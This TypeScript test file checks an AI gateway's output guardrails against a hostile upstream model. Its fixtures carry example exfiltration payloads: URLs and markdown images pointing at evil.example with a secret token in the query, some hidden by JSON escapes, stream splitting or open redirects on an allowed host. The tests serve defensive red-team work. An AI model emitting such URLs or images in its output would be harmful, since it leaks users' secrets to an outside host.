// The exfiltration stage on channels whose text is JSON, through a running gateway in front of the hostile upstream
// (red team re-check 4, /work/findings-recheck4): tool-call and function-call arguments, and content under a JSON
// response_format (enforced or not), are rewritten so that the client's JSON.parse still succeeds, the foreign URL
// or image neutralised in the parsed value (finding 05); the markdown channel keeps its markdown rewrite. And an
// image on an allowed host whose query carries a foreign URL (an open redirect) is neutralised (finding 07).
import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import type { RunningGateway } from '../server.ts';
import { newKey } from '../test/fixtures.ts';
import { CAPTURED, installLeakScan } from '../test/harness.ts';
import { chunk, completion, sseBody, type HostileUpstream } from '../test/hostile-upstream.ts';
import { closeHostileGateway, guardedTenant, outputGuardrails, startHostileGateway } from '../test/hostile-gateway.ts';
import { ESCAPED_VALUE_CASES } from '../../guardrails/test/json-cases.ts';

installLeakScan();

const TOKEN = 'ghp_Zq8xT4mN2bV6cR1yL9wK3jH7gF5dS0aP2eU4';
const UPSTREAM_KEY = 'up-7f3Kq9ZxW2mB8vN4cR6tY1uP5sL0dHgJ';
const key = newKey();
const guardrails = outputGuardrails();

let up: HostileUpstream;
let gw: RunningGateway;

before(async () => {
  ({ up, gw } = await startHostileGateway([guardedTenant('exfil-json', key, guardrails)], UPSTREAM_KEY));
});
after(() => closeHostileGateway(gw, up));

async function chat(extra: Record<string, unknown>): Promise<string> {
  const r = await fetch(`${gw.url}/v1/chat/completions`, {
    method: 'POST',
    headers: { authorization: `Bearer ${key}`, 'content-type': 'application/json' },
    body: JSON.stringify({ model: 'm', messages: [{ role: 'user', content: 'hi' }], ...extra }),
  });
  const raw = await r.text();
  CAPTURED.push(raw);
  assert.equal(r.status, 200, raw.slice(0, 400));
  return raw;
}

type Obj = Record<string, unknown>;
const events = (raw: string): Obj[] =>
  raw
    .split('\n\n')
    .filter((e) => e.startsWith('data: ') && e !== 'data: [DONE]')
    .map((e) => JSON.parse(e.slice(6)) as Obj);
const deltas = (raw: string): Obj[] =>
  events(raw).flatMap((e) => ((e.choices ?? []) as { delta?: Obj }[]).map((c) => c.delta ?? {}));
const message = (raw: string): Obj => (JSON.parse(raw) as { choices: { message: Obj }[] }).choices[0]!.message;

/** Three pieces, as the reproducers split them. */
const thirds = (s: string): string[] => [s.slice(0, 7), s.slice(7, 25), s.slice(25)];

// tool-call arguments as the engine writes them, and the parsed value the client must get
const ARGS: [string, string, Obj][] = [
  [
    'a URL carrying a secret',
    `{"url":"https://evil.example/c?d=${TOKEN}"}`,
    // the decoded value, defanged as the markdown channel defangs it
    { url: 'https\\:\\/\\/evil\\.example\\/c?d=[REDACTED\\:github-token]' },
  ],
  ['a markdown image', '{"md":"![x](https://evil.example/p.png?d=abc)"}', { md: '\\[image: x\\]' }],
  // hidden by JSON escapes the client decodes before it renders the value (the JSON text reading missed them)
  ...ESCAPED_VALUE_CASES,
  [
    'a plain address (left alone)',
    '{"url":"https://evil.example/c?d=hello"}',
    { url: 'https://evil.example/c?d=hello' },
  ],
];

describe('exfiltration in JSON channels: the client still parses what it gets (finding 05)', () => {
  for (const [label, args, want] of ARGS) {
    it(`tool-call arguments, whole: ${label}`, async () => {
      up.handler = () => ({
        body: JSON.stringify(
          completion(
            { content: null, tool_calls: [{ id: 'c1', type: 'function', function: { name: 'f', arguments: args } }] },
            { finish_reason: 'tool_calls' },
          ),
        ),
      });
      const calls = message(await chat({})).tool_calls as { function: { arguments: string } }[];
      assert.deepEqual(JSON.parse(calls[0]!.function.arguments), want);
    });

    it(`tool-call arguments, streamed in pieces: ${label} (the same as whole)`, async () => {
      up.handler = () => ({
        body: sseBody([
          ...thirds(args).map((a, i) =>
            chunk({
              ...(i === 0 ? { role: 'assistant' } : {}),
              tool_calls: [
                { index: 0, ...(i === 0 ? { id: 'c1', type: 'function' } : {}), function: { arguments: a } },
              ],
            }),
          ),
          chunk({}, { finish_reason: 'tool_calls' }),
        ]),
      });
      let got = '';
      for (const d of deltas(await chat({ stream: true })))
        for (const t of (d.tool_calls ?? []) as { function?: { arguments?: string } }[])
          got += t.function?.arguments ?? '';
      assert.deepEqual(JSON.parse(got), want);
    });
  }

  it('legacy function_call arguments, whole', async () => {
    up.handler = () => ({
      body: JSON.stringify(
        completion(
          { content: null, function_call: { name: 'f', arguments: ARGS[1]![1] } },
          { finish_reason: 'function_call' },
        ),
      ),
    });
    const fc = message(await chat({})).function_call as { arguments: string };
    assert.deepEqual(JSON.parse(fc.arguments), ARGS[1]![2]);
  });

  for (const format of [
    { type: 'json_object' },
    { type: 'json_schema', json_schema: { name: 'o', schema: { type: 'object' } } },
  ]) {
    it(`content under response_format ${format.type}, whole and streamed`, async () => {
      const text = ARGS[1]![1];
      up.handler = (b) =>
        b.stream === true
          ? { body: sseBody([...thirds(text).map((c) => chunk({ content: c })), chunk({}, { finish_reason: 'stop' })]) }
          : { body: JSON.stringify(completion({ content: text })) };
      const whole = message(await chat({ response_format: format })).content as string;
      assert.deepEqual(JSON.parse(whole), ARGS[1]![2]);
      const streamed = deltas(await chat({ response_format: format, stream: true }))
        .map((d) => (typeof d.content === 'string' ? d.content : ''))
        .join('');
      assert.equal(streamed, whole);
    });
  }

  it('content without a JSON response_format keeps the markdown rewrite', async () => {
    up.handler = () => ({ body: JSON.stringify(completion({ content: ARGS[1]![1] })) });
    assert.equal(message(await chat({})).content, '{"md":"\\[image: x\\]"}');
  });
});

describe('an allowed host whose query carries a foreign URL (finding 07)', () => {
  const IMAGES = [
    '![x](https://docs.example.com/redirect?to=https://evil.example/p.png?d=Zq8xT4mN2bV6cR1y)',
    '![x](https://docs.example.com/url?q=https%3A%2F%2Fevil.example%2Fp.png%3Fd%3DZq8xT4mN2bV6cR1y)',
    '![x](https://docs.example.com/out?u=//evil.example/p.png)',
  ];
  for (const image of IMAGES)
    it(`streamed in pieces: ${image.slice(0, 70)}`, async () => {
      up.handler = () => ({
        body: sseBody([
          ...thirds(image).map((c, i) => chunk({ ...(i === 0 ? { role: 'assistant' } : {}), content: c })),
          chunk({}, { finish_reason: 'stop' }),
        ]),
      });
      const out = deltas(await chat({ stream: true }))
        .map((d) => (typeof d.content === 'string' ? d.content : ''))
        .join('');
      assert.equal(out, '\\[image: x\\]');
    });

  it('an image on the allowed host alone is served', async () => {
    const image = '![x](https://docs.example.com/img/p.png?v=2)';
    up.handler = () => ({ body: JSON.stringify(completion({ content: image })) });
    assert.equal(message(await chat({})).content, image);
  });
});
